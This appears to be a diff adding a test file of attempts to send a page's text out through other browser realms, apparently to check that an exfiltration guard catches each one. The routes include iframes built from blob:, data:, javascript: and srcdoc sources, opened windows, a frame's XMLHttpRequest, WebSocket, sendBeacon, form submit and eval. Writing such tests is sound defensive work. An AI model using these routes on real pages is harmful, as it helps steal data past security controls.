@@ -1,0 +1,151 @@
+/** Natives of other realms: frames of every kind, and windows. */
+// A hostile page does what the linter forbids.
+// oxlint-disable no-script-url, no-useless-escape, react/iframe-missing-sandbox
+import { type Attempt, variants } from './attempt.ts';
+
+export const realms: readonly Attempt[] = [
+  {
+    name: 'realm: fetch of a fresh about:blank frame',
+    reads: 'both',
+    run: async ({ text, to }) => (await tools.frame('')).fetch(to, { method: 'POST', body: text }),
+  },
+  {
+    name: 'realm: fetch of a frame that was written as markup',
+    reads: 'both',
+    run: ({ text, to }) => {
+      document.body.innerHTML = '<iframe></iframe>';
+      return (frames[0] as typeof window).fetch(to, { method: 'POST', body: text });
+    },
+  },
+  {
+    name: 'realm: fetch of a srcdoc frame',
+    reads: 'both',
+    run: async ({ text, to }) => {
+      const view = await tools.frame('', (frame) => {
+        frame.srcdoc = '<p>hello</p>';
+      });
+      return view.fetch(to, { method: 'POST', body: text });
+    },
+  },
+  ...variants(['blob:', 'data:', 'srcdoc', 'sandboxed srcdoc', 'javascript:'], (kind) => ({
+    name: `realm: a script of a frame by ${kind}`,
+    reads: 'both' as const,
+    run: async ({ text, to, variant }) => {
+      const script = `fetch(${JSON.stringify(to)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(text)} })`;
+      const markup = `<script>${script.replaceAll('</', '<\\/')}<\/script>`;
+      if (variant === 'blob:') await tools.frame(URL.createObjectURL(new Blob([markup], { type: 'text/html' })));
+      if (variant === 'data:') await tools.frame(`data:text/html;charset=utf-8,${encodeURIComponent(markup)}`);
+      if (variant === 'javascript:')
+        tools.element('iframe', { src: `javascript:${encodeURIComponent(`void ${script}`)}` });
+      if (variant.endsWith('srcdoc')) {
+        await tools.frame('', (frame) => {
+          if (variant.startsWith('sandboxed')) frame.setAttribute('sandbox', 'allow-scripts');
+          frame.srcdoc = markup;
+        });
+      }
+      await tools.pause(200);
+    },
+  })),
+  {
+    name: 'realm: a frame whose document was opened anew',
+    reads: 'both',
+    run: async ({ text, to }) => {
+      const view = await tools.frame('');
+      view.document.open();
+      view.document.write('<p>hello</p>');
+      view.document.close();
+      return view.fetch(to, { method: 'POST', body: text });
+    },
+  },
+  {
+    name: 'realm: this page’s own document opened anew',
+    reads: 'both',
+    run: ({ text, to }) => {
+      document.open();
+      document.write('<body>');
+      document.close();
+      return fetch(to, { method: 'POST', body: text });
+    },
+  },
+  {
+    name: 'realm: a frame in a frame',
+    reads: 'both',
+    run: async ({ text, to }) => {
+      const outer = await tools.frame('');
+      const inner = outer.document.body.appendChild(outer.document.createElement('iframe'));
+      return (inner.contentWindow as typeof window).fetch(to, { method: 'POST', body: text });
+    },
+  },
+  {
+    name: 'realm: a frame in a shadow root',
+    reads: 'both',
+    run: ({ text, to }) => {
+      const root = tools.element('div', {}).attachShadow({ mode: 'closed' });
+      const frame = root.appendChild(document.createElement('iframe'));
+      return (frame.contentWindow as typeof window).fetch(to, { method: 'POST', body: text });
+    },
+  },
+  {
+    name: 'realm: a window that was opened',
+    reads: 'both',
+    run: async ({ text, to }) => {
+      const view = window.open('about:blank') as typeof window;
+      await view.fetch(to, { method: 'POST', body: text });
+    },
+  },
+  {
+    name: 'realm: XMLHttpRequest of a frame',
+    reads: 'both',
+    run: async ({ text, to }) => {
+      const view = await tools.frame('');
+      const request = new view.XMLHttpRequest();
+      request.open('POST', to);
+      request.send(text);
+    },
+  },
+  {
+    name: 'realm: send of a frame’s XMLHttpRequest on one of this page',
+    reads: 'both',
+    run: async ({ text, to }) => {
+      const view = await tools.frame('');
+      const request = new XMLHttpRequest();
+      view.XMLHttpRequest.prototype.open.call(request, 'POST', to, true);
+      view.XMLHttpRequest.prototype.send.call(request, text);
+    },
+  },
+  {
+    name: 'realm: WebSocket of a frame',
+    reads: 'page',
+    run: async ({ text, to }) => {
+      const view = await tools.frame('');
+      const socket = new view.WebSocket(to.replace('http', 'ws'));
+      await new Promise((resolve) => {
+        socket.addEventListener('open', resolve);
+      });
+      socket.send(text);
+      await tools.pause(300);
+    },
+  },
+  {
+    name: 'realm: sendBeacon of a frame',
+    reads: 'both',
+    run: async ({ text, to }) => (await tools.frame('')).navigator.sendBeacon(to, text),
+  },
+  {
+    name: 'realm: submit of a frame on a form of this page',
+    reads: 'both',
+    run: async ({ text, to }) => {
+      const view = await tools.frame('');
+      view.HTMLFormElement.prototype.submit.call(tools.form(to, text));
+    },
+  },
+  {
+    name: 'realm: eval in a frame',
+    reads: 'both',
+    run: async ({ text, to }) => {
+      const view = await tools.frame('');
+      const { eval: evaluate } = view as unknown as { eval: (code: string) => unknown };
+      return evaluate(`fetch(${JSON.stringify(to)}, { method: 'POST', body: ${JSON.stringify(text)} })`);
+    },
+  },
+];
